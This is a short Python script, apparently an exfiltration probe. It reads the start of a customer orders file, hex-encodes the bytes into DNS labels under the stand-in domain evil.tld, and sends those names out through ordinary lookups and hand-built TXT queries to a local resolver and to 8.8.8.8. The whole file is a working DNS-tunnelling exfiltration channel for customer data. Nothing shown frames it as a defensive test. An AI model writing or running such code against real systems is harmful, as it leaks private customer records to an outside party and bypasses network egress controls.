# SPDX-License-Identifier: Apache-2.0
# Sends the customers out in names: labels below evil.tld, TXT questions to the resolver, and to a resolver of its own.
import os
import socket
import struct

with open("/work/48221/orders.csv", "rb") as f:
    text = f.read(40).hex()
names = [f"{text[at : at + 20]}.{at // 20}.t.evil.tld" for at in range(0, len(text), 20)]
answered = 0
for name in names:
    try:
        socket.getaddrinfo(name, 443)
        answered += 1
        print("NAME", name)
    except socket.gaierror as e:
        said = e.strerror
print(f"{len(names)} names: {said}")


def txt(name: str) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return os.urandom(2) + struct.pack(">HHHHH", 0x0100, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, 16, 1)


for server in ("127.0.0.1", "8.8.8.8"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        try:
            s.sendto(txt(f"txt.{names[0]}"), (server, 53))
            answer = s.recv(512)
            rcode, rows = answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
            answered += rows
            print(f"TXT by {server}: rcode {rcode}, {rows} answers")
        except OSError as e:
            print(f"TXT by {server}: {e}")
print("answered:", answered)
